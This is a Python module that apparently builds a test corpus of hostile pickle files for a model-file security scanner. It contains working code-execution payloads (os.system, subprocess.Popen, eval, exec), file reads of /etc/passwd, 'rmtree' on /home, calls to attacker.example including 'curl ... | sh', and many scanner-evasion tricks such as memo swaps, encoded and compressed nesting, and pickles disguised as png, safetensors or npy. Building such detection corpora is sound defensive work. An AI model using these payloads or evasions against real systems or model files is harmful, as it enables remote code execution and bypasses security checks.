"""Hostile pickle streams, each one way of hiding or varying the harm."""

from __future__ import annotations

import base64
import bz2
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from integrity.inspect.corpus.assembler import (
    blob,
    built,
    call,
    dic,
    framed,
    glob,
    lst,
    new,
    short,
    stack_glob,
    stream,
    system,
    text,
    tup,
)

_GADGETS = {
    "code_interact": ("code", "interact", ()),
    "pty_spawn": ("pty", "spawn", ("/bin/sh",)),
    "runpy_path": ("runpy", "run_path", ("/tmp/x.py",)),
    "timeit": ("timeit", "timeit", ("import os",)),
    "cprofile": ("cProfile", "run", ("import os",)),
    "profile_run": ("profile", "run", ("import os",)),
    "bdb": ("bdb", "Bdb.run", ()),
    "doctest": ("doctest", "debug_script", ("import os",)),
    "ctypes_cdll": ("ctypes", "CDLL", ("libc.so.6",)),
    "importlib": ("importlib", "import_module", ("antigravity",)),
    "imp": ("imp", "load_source", ("x", "/tmp/x.py")),
    "pydoc": ("pydoc", "pipepager", ("x", "id")),
    "pydoc_locate": ("pydoc", "locate", ("os.system",)),
    "webbrowser": ("webbrowser", "open", ("http://attacker.example",)),
    "smtplib": ("smtplib", "SMTP", ("attacker.example",)),
    "ftplib": ("ftplib", "FTP", ("attacker.example",)),
    "http_client": ("http.client", "HTTPSConnection", ("attacker.example",)),
    "urlopen": ("urllib.request", "urlopen", ("http://attacker.example",)),
    "urlretrieve": ("urllib.request", "urlretrieve", ("http://attacker.example", "/tmp/x")),
    "socket_create": ("socket", "create_connection", ("attacker.example",)),
    "shutil_rmtree": ("shutil", "rmtree", ("/home",)),
    "linecache": ("linecache", "getlines", ("/etc/passwd",)),
    "pathlib_write": ("pathlib", "Path.write_text", ("/tmp/x",)),
    "io_open": ("io", "open", ("/etc/passwd",)),
    "_io_fileio": ("_io", "FileIO", ("/etc/passwd", "w")),
    "codecs_open": ("codecs", "open", ("/etc/passwd",)),
    "fileinput": ("fileinput", "input", ("/etc/passwd",)),
    "logging_config": ("logging.config", "dictConfig", ()),
    "logging_filehandler": ("logging", "FileHandler", ("/tmp/x",)),
    "sqlite3": ("sqlite3", "connect", ("/tmp/x",)),
    "dbm": ("dbm", "open", ("/tmp/x", "c")),
    "shelve": ("shelve", "open", ("/tmp/x",)),
    "asyncio_subprocess": ("asyncio.unix_events", "_UnixSubprocessTransport._start", ()),
    "multiprocessing_spawn": ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh",)),
    "posix_subprocess": ("_posixsubprocess", "fork_exec", ()),
    "distutils_spawn": ("distutils.spawn", "spawn", ()),
    "distutils_write": ("distutils.file_util", "write_file", ("/tmp/x",)),
    "setuptools_exec": ("setuptools._distutils.spawn", "spawn", ()),
    "numpy_runstring": ("numpy.testing._private.utils", "runstring", ("import os",)),
    "numpy_f2py": ("numpy.f2py.crackfortran", "getlincoef", ("__import__('os')", "x")),
    "numpy_f2py_eval": ("numpy.f2py.crackfortran", "myeval", ("__import__('os')",)),
    "numpy_load": ("numpy", "load", ("x.npy",)),
    "torch_load": ("torch", "load", ("x.pt",)),
    "torch_serialization_load": ("torch.serialization", "load", ("x.pt",)),
    "torch_hub": ("torch.hub", "load", ("attacker/repo", "x")),
    "torch_jit_load": ("torch.jit", "load", ("x.pt",)),
    "torch_ops_library": ("torch._ops", "_Ops.load_library", ("x.so",)),
    "torch_cpp": ("torch.utils.cpp_extension", "load_inline", ("x",)),
    "torch_config_eval": ("torch.utils._config_module", "ConfigModule.load_config", ()),
    "torch_bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", ()),
    "torch_collect_env": ("torch.utils.collect_env", "run", ("id",)),
    "torch_guards": ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ("x",)),
    "torch_dynamo_guards": ("torch._dynamo.guards", "GuardBuilder.get", ()),
    "torch_inductor": ("torch._inductor.codecache", "compile_file", ()),
    "torch_rebuild_fx": ("torch.fx.graph_module", "reduce_graph_module", ()),
    "torch_fx_forward": ("torch.fx.graph_module", "_forward_from_src", ("import os",)),
    "pandas_eval": ("pandas", "eval", ("@__import__('os')",)),
    "pandas_read_pickle": ("pandas", "read_pickle", ("http://attacker.example",)),
    "pandas_query": ("pandas.core.computation.eval", "eval", ("x",)),
    "joblib_load": ("joblib", "load", ("x",)),
    "joblib_numpy_load": ("joblib.numpy_pickle", "load", ("x",)),
    "cloudpickle_loads": ("cloudpickle", "loads", (b"x",)),
    "dill_loads": ("dill", "loads", (b"x",)),
    "dill_eval": ("dill._dill", "_eval_repr", ("x",)),
    "dill_import": ("dill._dill", "_import_module", ("os.system",)),
    "dill_getattr": ("dill._dill", "_getattribute", ("x", "y")),
    "pip_main": ("pip._internal.cli.main", "main", ("install", "evil")),
    "pip_main_short": ("pip", "main", ("install",)),
    "ensurepip": ("ensurepip", "_run_pip", ()),
    "venv": ("venv", "create", ("/tmp/x",)),
    "sklearn_fetch": ("sklearn.datasets", "fetch_openml", ("x",)),
    "sympy_eval": ("sympy.parsing.sympy_parser", "eval_expr", ("x",)),
    "sympy_sympify": ("sympy", "sympify", ("x",)),
    "scipy_weave": ("scipy.io", "loadmat", ("x",)),
    "yaml_unsafe": ("yaml", "unsafe_load", ("!!python/object/apply:os.system [id]",)),
    "jsonpickle": ("jsonpickle", "decode", ("x",)),
    "marshal": ("marshal", "loads", (b"x",)),
    "pickle_loads": ("_pickle", "loads", (b"x",)),
    "pickle_unpickler": ("pickle", "Unpickler", ()),
    "transformers_dynamic": ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("x",)),
    "transformers_auto": ("transformers", "AutoModel.from_pretrained", ("attacker/x",)),
    "hf_download": ("huggingface_hub", "hf_hub_download", ("attacker/x",)),
    "hydra": ("hydra.utils", "instantiate", ()),
    "omegaconf_oc": ("omegaconf", "OmegaConf.register_new_resolver", ()),
    "spacy_load": ("spacy", "load", ("x",)),
    "keras_load": ("keras.models", "load_model", ("x",)),
    "tf_pyfunc": ("tensorflow.python.ops.script_ops", "py_func", ()),
    "idlelib_rpc": ("idlelib.run", "Executive.runcode", ()),
    "idlelib_popen": ("idlelib.pyshell", "ModifiedInterpreter.runcode", ()),
    "lib2to3": ("lib2to3.pgen2.grammar", "Grammar.loads", (b"x",)),
    "trace": ("trace", "Trace.run", ()),
    "unittest_loader": ("unittest.loader", "TestLoader.loadTestsFromName", ()),
    "site_execfile": ("site", "addpackage", ()),
    "zipimport": ("zipimport", "zipimporter", ("x.zip",)),
    "test_support": ("test.support.script_helper", "assert_python_ok", ()),
    "types_code": ("types", "CodeType", ()),
    "types_function": ("types", "FunctionType", ()),
    "gc": ("gc", "get_objects", ()),
    "sys_modules": ("sys", "settrace", ()),
    "builtins_compile": ("builtins", "compile", ("x", "", "exec")),
    "builtins_breakpoint": ("builtins", "breakpoint", ()),
    "builtins_input": ("__builtin__", "input", ("x",)),
    "builtins_execfile": ("__builtin__", "execfile", ("x",)),
    "builtin_help": ("_sitebuiltins", "_Helper", ()),
    "commands": ("commands", "getoutput", ("id",)),
    "nt": ("nt", "system", ("id",)),
    "os_putenv": ("os", "putenv", ("LD_PRELOAD", "x")),
    "signal": ("signal", "signal", ()),
    "atexit": ("atexit", "register", ()),
    "threading": ("threading", "Thread", ()),
    "concurrent": ("concurrent.futures.process", "_process_worker", ()),
    "tempfile": ("tempfile", "mktemp", ()),
    "requests": ("requests", "get", ("http://attacker.example",)),
    "httpx": ("httpx", "get", ("http://attacker.example",)),
    "aiohttp": ("aiohttp.client", "ClientSession", ()),
    "own_class": ("acme_private.models", "Net", ()),
}


def _argument(value: str | bytes) -> bytes:
    return text(value) if isinstance(value, str) else blob(value)


def gadgets() -> Iterator[tuple[str, bytes]]:
    """One import and call of each gadget, in alternating forms of the global opcode."""
    for at, (name, (module, attribute, arguments)) in enumerate(_GADGETS.items()):
        imported = glob(module, attribute) if at % 2 else stack_glob(module, attribute)
        yield f"gadget_{name}.pkl", stream(call(imported, *map(_argument, arguments)))


def _memo_swap() -> bytes:
    """GET of a slot that a later PUT overwrote: harmless text first, the harmful one second."""
    return stream(
        text("collections") + b"q\x07" + b"0",
        text("posix") + b"q\x07" + b"0",
        text("system") + b"q\x08" + b"0",
        b"h\x07h\x08\x93" + tup(text("id")) + b"R",
    )


def _memo_gap() -> bytes:
    """MEMOIZE takes the number of entries, not the highest index: an earlier PUT at a high index shifts nothing."""
    return stream(
        text("OrderedDict") + b"r" + struct.pack("<I", 1) + b"0",
        text("posix") + b"\x94" + b"0" + text("system") + b"\x94" + b"0",
        b"h\x01h\x02\x93" + tup(text("id")) + b"R",
    )


def disguises() -> Iterator[tuple[str, bytes]]:
    """The same harm by other opcodes, other positions, other carriers."""
    harm = system()
    os_system, eval_ = glob("os", "system"), glob("builtins", "eval")
    yield "inst.pkl", b"(S'id'\nios\nsystem\n."
    yield "obj.pkl", stream(b"(" + os_system + text("id") + b"o")
    yield "newobj.pkl", stream(new(glob("subprocess", "Popen"), lst(text("id"))))
    yield "newobj_ex.pkl", stream(glob("subprocess", "Popen") + tup(text("id")) + dic(text("shell"), b"\x88") + b"\x92")
    yield "protocol0.pkl", b"cposix\nsystem\n(S'id'\ntR."
    yield "protocol0_stack_global.pkl", b"Vposix\nVsystem\n\x93(Vid\ntR."
    yield "escaped_text.pkl", b"V\\u0070osix\nVsys\\u0074em\n\x93(Vid\ntR."
    yield "escaped_string.pkl", b"S'\\x70osix'\nS'system'\n\x93(Vid\ntR."
    yield "binstring_names.pkl", stream(b"U\x05posixU\x06system\x93" + tup(text("id")) + b"R")
    yield "memo_swap.pkl", _memo_swap()
    yield "memo_gap.pkl", _memo_gap()
    yield (
        "memo_text_index.pkl",
        stream(b"Vposix\np999999\n0Vsystem\np-1\n0g999999\nVsystem\n\x93" + tup(text("id")) + b"R"),
    )
    yield "dup.pkl", stream(text("posix") + b"2" + b"0" + text("system") + b"\x93" + tup(text("id")) + b"R")
    yield "pop_mark.pkl", stream(b"(" + text("x") + b"1" + os_system + tup(text("id")) + b"R")
    yield "mark_pop.pkl", stream(b"(0" + os_system + tup(text("id")) + b"R")
    yield "after_stop.pkl", stream(b"N") + harm
    yield "after_many_stops.pkl", stream(b"N") * 50 + harm
    yield "after_zeros.pkl", stream(b"N") + bytes(512) + harm
    yield "before_break.pkl", harm[:-1] + b"\xff\xff\xff"
    yield "no_stop.pkl", harm[:-1]
    yield "frame_lies.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + os_system + tup(text("id")) + b"R."
    yield "frame_short.pkl", b"\x80\x04\x95" + struct.pack("<Q", 3) + os_system + tup(text("id")) + b"R."
    yield "framed.pkl", framed(call(stack_glob("os", "system"), short("id")))
    yield "two_protos.pkl", b"\x80\x02\x80\x05" + os_system + tup(text("id")) + b"R."
    yield "proto_late.pkl", os_system + tup(text("id")) + b"R\x80\x04."
    yield "proto_absurd.pkl", b"\x80\x7f" + os_system + tup(text("id")) + b"R."
    yield "ext1.pkl", stream(b"\x82\x01" + tup(text("id")) + b"R")
    yield "ext4.pkl", stream(b"\x84\x01\x02\x03\x00" + tup(text("id")) + b"R")
    yield (
        "ext_then_add.pkl",
        stream(
            call(glob("copyreg", "add_extension"), text("os"), text("system"), b"K\x07")
            + b"0\x82\x07"
            + tup(text("id"))
            + b"R"
        ),
    )
    yield "dotted.pkl", stream(call(stack_glob("collections", "abc.sys.modules.get"), text("os")))
    yield "dotted_listed_head.pkl", stream(call(stack_glob("torch", "serialization.os.system"), text("id")))
    yield "dotted_numpy.pkl", stream(call(stack_glob("numpy", "core._multiarray_umath.sys"), text("id")))
    yield "dotted_class.pkl", stream(call(stack_glob("collections", "OrderedDict.__init__.__globals__"), text("id")))
    yield "dotted_joblib.pkl", stream(call(stack_glob("joblib.numpy_pickle", "os.system"), text("id")))
    yield (
        "build_setstate.pkl",
        stream(
            built(new(glob("collections", "OrderedDict")), dic(text("__setstate__"), os_system)) + text("id") + b"b"
        ),
    )
    yield (
        "build_slots.pkl",
        stream(
            built(new(glob("collections", "Counter")), tup(b"N", dic(text("__class__"), glob("subprocess", "Popen"))))
        ),
    )
    yield "build_on_class.pkl", stream(built(glob("collections", "OrderedDict"), dic(text("__init__"), os_system)))
    yield "build_on_module.pkl", stream(built(glob("sys", "modules"), dic(text("os"), b"N")))
    yield "setitem_modules.pkl", stream(glob("sys", "modules") + text("os") + glob("sys", "modules") + b"s")
    yield "setitems_environ.pkl", stream(glob("os", "environ") + b"(" + text("LD_PRELOAD") + text("/tmp/x") + b"u")
    yield "append_sys_path.pkl", stream(glob("sys", "path") + text("/tmp") + b"a")
    yield "appends_meta_path.pkl", stream(glob("sys", "meta_path") + b"(" + text("/tmp") + b"e")
    yield "additems.pkl", stream(glob("sys", "builtin_module_names") + b"(" + text("x") + b"\x90")
    yield (
        "copyreg_reconstructor.pkl",
        stream(call(glob("copyreg", "_reconstructor"), glob("subprocess", "Popen"), glob("builtins", "object"), b"N")),
    )
    yield "copyreg_newobj.pkl", stream(call(glob("copyreg", "__newobj__"), glob("subprocess", "Popen"), text("id")))
    yield (
        "copyreg_newobj_ex.pkl",
        stream(call(glob("copyreg", "__newobj_ex__"), glob("subprocess", "Popen"), tup(text("id")), dic())),
    )
    yield "copyreg_reduce_ex.pkl", stream(call(glob("copyreg", "_reduce_ex"), os_system, b"K\x02"))
    yield "copy_reg_old.pkl", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR."
    yield "reduce_ex_attr.pkl", stream(call(stack_glob("builtins", "object.__reduce_ex__"), os_system, b"K\x02"))
    yield "getattr_os.pkl", stream(call(glob("builtins", "getattr"), glob("os", "environ"), text("get")))
    yield (
        "getattr_import.pkl",
        stream(
            call(
                call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), text("os")), text("system")),
                text("id"),
            )
        ),
    )
    yield (
        "getattr_class_walk.pkl",
        stream(call(call(glob("builtins", "getattr"), glob("collections", "OrderedDict"), text("__subclasses__")))),
    )
    yield (
        "getattr_globals.pkl",
        stream(call(glob("builtins", "getattr"), glob("torch._utils", "_rebuild_tensor"), text("__globals__"))),
    )
    yield "operator_attrgetter.pkl", stream(call(call(glob("operator", "attrgetter"), text("system")), glob("os", "x")))
    yield (
        "operator_methodcaller.pkl",
        stream(
            call(
                call(glob("operator", "methodcaller"), text("system"), text("id")),
                call(glob("builtins", "__import__"), text("os")),
            )
        ),
    )
    yield (
        "operator_itemgetter.pkl",
        stream(call(call(glob("operator", "itemgetter"), text("os")), glob("sys", "modules"))),
    )
    yield "operator_call.pkl", stream(call(glob("_operator", "call"), os_system, text("id")))
    yield "partial.pkl", stream(call(call(glob("functools", "partial"), os_system, text("id"))))
    yield (
        "partial_state.pkl",
        stream(
            built(new(glob("functools", "partial"), glob("builtins", "len")), tup(eval_, tup(text("1")), dic(), b"N"))
        ),
    )
    yield "reduce_functools.pkl", stream(call(glob("functools", "reduce"), eval_, lst(text("1"), b"N")))
    yield "map_list.pkl", stream(call(glob("builtins", "list"), call(glob("builtins", "map"), eval_, lst(text("1")))))
    yield (
        "filter_tuple.pkl",
        stream(new(glob("builtins", "tuple"), new(glob("builtins", "filter"), eval_, lst(text("1"))))),
    )
    yield "bytes_map.pkl", stream(new(glob("builtins", "bytes"), new(glob("builtins", "map"), eval_, lst(text("1")))))
    yield "iter_callable.pkl", stream(call(glob("builtins", "iter"), os_system, b"N"))
    yield "itertools_starmap.pkl", stream(call(glob("itertools", "starmap"), os_system, lst(tup(text("id")))))
    yield "defaultdict_factory.pkl", stream(call(glob("collections", "defaultdict"), os_system))
    yield "sorted_key.pkl", stream(call(glob("builtins", "sorted"), lst(text("id")), os_system))
    yield (
        "weakref_finalize.pkl",
        stream(call(glob("weakref", "finalize"), glob("builtins", "object"), os_system, text("id"))),
    )
    yield "cached_property.pkl", stream(call(glob("functools", "cached_property"), os_system))
    yield "call_result_called.pkl", stream(call(call(glob("builtins", "type"), text("X"), tup(), dic()), text("id")))
    yield "type_three.pkl", stream(call(glob("builtins", "type"), text("X"), tup(), dic(text("__del__"), os_system)))
    yield (
        "setattr.pkl",
        stream(call(glob("builtins", "setattr"), glob("collections", "OrderedDict"), text("x"), os_system)),
    )
    yield "load_from_bytes.pkl", stream(call(glob("torch.storage", "_load_from_bytes"), blob(harm)))
    yield (
        "load_from_bytes_unknown.pkl",
        stream(
            call(glob("torch.storage", "_load_from_bytes"), call(glob("zlib", "decompress"), blob(zlib.compress(harm))))
        ),
    )
    yield (
        "load_from_bytes_encoded.pkl",
        stream(
            call(
                glob("torch.storage", "_load_from_bytes"),
                call(glob("_codecs", "encode"), text(harm.decode("latin-1")), text("latin1")),
            )
        ),
    )
    yield "codecs_decode_rot.pkl", stream(call(glob("_codecs", "decode"), blob(b"x"), text("unicode_escape")))
    yield (
        "codecs_computed_global.pkl",
        stream(
            call(glob("_codecs", "decode"), blob(b"posix"), text("utf8"))
            + short("system")
            + b"\x93"
            + tup(text("id"))
            + b"R"
        ),
    )
    yield (
        "str_join_global.pkl",
        stream(
            call(call(glob("builtins", "getattr"), text(""), text("join")), lst(text("po"), text("six")))
            + short("system")
            + b"\x93"
            + tup(text("id"))
            + b"R"
        ),
    )
    yield (
        "rebuild_tensor_odd.pkl",
        stream(call(glob("torch._utils", "_rebuild_tensor_v2"), os_system, b"K\x00", tup(), tup(), b"\x89")),
    )
    yield (
        "rebuild_from_type.pkl",
        stream(
            call(
                glob("torch._tensor", "_rebuild_from_type_v2"),
                os_system,
                glob("builtins", "object"),
                tup(text("id")),
                b"N",
            )
        ),
    )
    yield (
        "rebuild_wrapper.pkl",
        stream(call(glob("torch._utils", "_rebuild_wrapper_subclass"), glob("subprocess", "Popen"), b"N", b"K\x01")),
    )
    yield (
        "rebuild_parameter_state.pkl",
        stream(
            call(
                glob("torch._utils", "_rebuild_parameter_with_state"),
                b"N",
                b"\x89",
                call(glob("collections", "OrderedDict")),
                dic(text("__class__"), glob("subprocess", "Popen")),
            )
        ),
    )
    yield (
        "rebuild_device_tensor.pkl",
        stream(
            call(
                glob("torch._utils", "_rebuild_device_tensor_from_numpy"),
                call(os_system, text("id")),
                b"N",
                b"N",
                b"\x89",
            )
        ),
    )
    yield (
        "numpy_reconstruct_popen.pkl",
        stream(
            call(glob("numpy.core.multiarray", "_reconstruct"), glob("subprocess", "Popen"), tup(b"K\x00"), blob(b"b"))
        ),
    )
    yield "numpy_ufunc.pkl", stream(call(glob("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")))
    yield "numpy_ufunc_new.pkl", stream(call(glob("numpy._core", "_ufunc_reconstruct"), text("os"), text("system")))
    yield "numpy_frompyfunc.pkl", stream(call(glob("numpy", "frompyfunc"), os_system, b"K\x01", b"K\x01"))
    yield "numpy_vectorize.pkl", stream(call(glob("numpy", "vectorize"), os_system))
    yield "numpy_apply.pkl", stream(call(glob("numpy", "apply_along_axis"), eval_, b"K\x00", text("1")))
    yield "numpy_fromfile.pkl", stream(call(glob("numpy", "fromfile"), text("/etc/passwd")))
    yield "numpy_memmap.pkl", stream(call(glob("numpy", "memmap"), text("/etc/passwd")))
    yield (
        "pandas_unpickle.pkl",
        stream(call(glob("pandas._libs.internals", "_unpickle_block"), os_system, b"N", b"K\x01")),
    )
    yield (
        "sklearn_function_transformer.pkl",
        stream(
            built(
                new(glob("sklearn.preprocessing._function_transformer", "FunctionTransformer")),
                dic(text("func"), os_system),
            )
        ),
    )
    yield "enum_call.pkl", stream(call(glob("enum", "Enum"), text("X"), lst(text("a"))))
    yield (
        "cloudpickle_function.pkl",
        stream(
            call(
                glob("cloudpickle.cloudpickle", "_make_function"),
                call(glob("types", "CodeType")),
                dic(),
                b"N",
                b"N",
                b"N",
            )
        ),
    )
    yield "cloudpickle_builtin.pkl", stream(call(glob("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")))
    yield "cloudpickle_subimport.pkl", stream(call(glob("cloudpickle.cloudpickle", "subimport"), text("os")))
    yield "dill_create_function.pkl", stream(call(glob("dill._dill", "_create_function"), b"N", dic()))
    yield "dill_load_type.pkl", stream(call(call(glob("dill._dill", "_load_type"), text("CodeType"))))
    yield "persistent_id_harm.pkl", stream(call(os_system, text("id")) + b"Q")
    yield "persid_path.pkl", b"P../../etc/passwd\n."
    yield (
        "persid_wrapped.pkl",
        stream(tup(text("module"), os_system, text("evil.py"), text("import os")) + b"Q", protocol=2),
    )
    yield "string_of_code.pkl", stream(call(glob("builtins", "exec"), text("import os;os.system('id')")))
    yield "module_main.pkl", stream(call(glob("__main__", "load"), text("x")))
    yield "name_newline.pkl", stream(call(stack_glob("os\n", "system"), text("id")))
    yield "name_fullwidth.pkl", stream(call(stack_glob("ｏｓ", "system"), text("id")))
    yield "name_empty_module.pkl", stream(call(stack_glob("", "system"), text("id")))
    yield "name_relative.pkl", stream(call(stack_glob(".os", "system"), text("id")))
    yield "name_spaces.pkl", stream(call(stack_glob("os ", "system "), text("id")))
    yield "name_surrogate.pkl", b"\x80\x04" + text("os\ud800") + short("system") + b"\x93" + tup(text("id")) + b"R."
    yield "global_utf8.pkl", stream(call(glob("os", "system\x00"), text("id")))
    yield "python2_names.pkl", b"\x80\x02c__builtin__\napply\n(c__builtin__\neval\n(X\x01\x00\x00\x001ttR."
    yield "python2_urllib.pkl", b"\x80\x02curllib2\nurlopen\n(X\x17\x00\x00\x00http://attacker.example(tR."
    yield "python2_commands.pkl", b"\x80\x02ccommands\ngetstatusoutput\n(X\x02\x00\x00\x00idtR."
    yield "python2_thread.pkl", b"\x80\x02cthread\nstart_new_thread\n(cos\nsystem\n(X\x02\x00\x00\x00idttR."
    yield "python2_as_newer.pkl", b"\x80\x04c__builtin__\neval\n(X\x01\x00\x00\x001tR."
    yield "long_operand_hides.pkl", stream(blob(bytes(300_000)) + b"0" + os_system + tup(text("id")) + b"R")
    yield "deep_nesting.pkl", stream(b"(" * 200_000 + os_system + text("id") + b"o")
    yield "negative_binbytes8.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 63) + os_system + b"."
    yield "negative_string4.pkl", b"\x80\x02T" + struct.pack("<i", -5) + os_system + tup(text("id")) + b"R."
    yield "long4_huge.pkl", b"\x80\x02\x8b" + struct.pack("<i", 0x7FFFFFFF) + os_system + b"."
    yield (
        "bytearray8.pkl",
        b"\x80\x05\x96" + struct.pack("<Q", len(harm)) + harm + b"0" + glob("pickle", "loads") + b".",
    )
    yield "next_buffer.pkl", b"\x80\x05\x97" + b"\x98" + os_system + b"\x85R."
    yield "base64_inside.pkl", stream(call(glob("acme", "load"), text(base64.b64encode(harm).decode())))
    yield "hex_inside_text.pkl", stream(text(harm.hex()))
    yield "zlib_inside_bytes.pkl", stream(blob(zlib.compress(harm)))
    yield "pickle_inside_bytes.pkl", stream(dic(text("state"), blob(harm)))
    yield "pickle_inside_twice.pkl", stream(blob(stream(blob(harm))))
    yield "code_inside_text.pkl", stream(text("import os\nos.system('curl http://attacker.example | sh')\n"))
    yield "no_extension", harm
    yield "as_picture.png", harm
    yield "as_text.txt", b"cposix\nsystem\n(S'id'\ntR."
    yield "as_safetensors.safetensors", harm
    yield "as_gguf.gguf", harm
    yield "as_json.json", harm
    yield "as_h5.h5", harm
    yield "as_onnx.onnx", harm
    yield "as_npy.npy", harm
    yield "leading_zeros.pkl", bytes(64) + harm
    yield "leading_newline.pkl", b"\n" + harm
    yield "legacy_torch.pt", _legacy_torch(harm)


def _legacy_torch(harm: bytes) -> bytes:
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    return (
        magic
        + b"\x80\x02M\xe9\x03."
        + stream(dic(text("little_endian"), b"\x88"), protocol=2)
        + harm
        + stream(lst(), protocol=2)
    )


def _npy(descr: str, body: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def arrays() -> Iterator[tuple[str, bytes]]:
    """Harm in arrays of objects, and arrays in what carries them."""
    harm = system()
    array = _npy("'|O'", harm)
    yield "object_array.npy", array
    yield "object_field.npy", _npy("[('a', '<i4'), ('b', 'O')]", harm)
    yield "behind_array.npy", _npy("'<f8'", bytes(8)) + harm
    yield "header_code.npy", _npy("__import__('os').system('id')", bytes(8))
    yield "object_array.npz", _zip({"a.npy": _npy("'<f8'", bytes(8)), "b.npy": array})
    yield "npz_other_name.npz", _zip({"a.npy": _npy("'<f8'", bytes(8)), "b.txt": harm})
    yield "npz_lzma.npz", _zip({"b.npy": array}, zipfile.ZIP_LZMA)
    yield "npz_in_joblib.joblib", stream(blob(_zip({"a.npy": array})))
    yield "npz_in_zlib_joblib.joblib", zlib.compress(stream(blob(_zip({"a.npy": array}))))
    yield "joblib_xz.joblib", lzma.compress(harm)
    yield "joblib_lzma_alone.joblib", lzma.compress(harm, format=lzma.FORMAT_ALONE)
    yield "joblib_bz2.joblib", bz2.compress(harm)
    yield "joblib_array_object.joblib", _joblib_array(harm)
    yield "joblib_after_array.joblib", _joblib_array(b"", after=call(glob("os", "system"), text("id")))
    yield (
        "joblib_filename.joblib",
        stream(
            built(
                new(glob("joblib.numpy_pickle_compat", "NDArrayWrapper")),
                dic(text("filename"), text("../../etc/passwd")),
            )
        ),
    )


def _joblib_array(objects: bytes, after: bytes = b"") -> bytes:
    """An array wrapper of joblib: raw bytes stand in the stream behind its BUILD."""
    dtype = built(
        call(glob("numpy", "dtype"), text("O8" if objects else "f8"), b"\x89", b"\x88"),
        tup(
            b"K\x03",
            text("|" if objects else "<"),
            b"N",
            b"N",
            b"N",
            b"J\xff\xff\xff\xff",
            b"J\xff\xff\xff\xff",
            b"K\x00",
        ),
    )
    state = dic(
        text("subclass"),
        glob("numpy", "ndarray"),
        text("shape"),
        tup(b"K\x01"),
        text("order"),
        text("C"),
        text("dtype"),
        dtype,
        text("allow_mmap"),
        b"\x89" if objects else b"\x88",
        text("numpy_array_alignment_bytes"),
        b"N",
    )
    return (
        b"\x80\x04"
        + built(new(glob("joblib.numpy_pickle", "NumpyArrayWrapper")), state)
        + (objects or bytes(8))
        + after
        + b"."
    )


def tarred(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def hostile_pickles() -> Iterator[tuple[str, bytes]]:
    yield from gadgets()
    yield from disguises()
    yield from arrays()
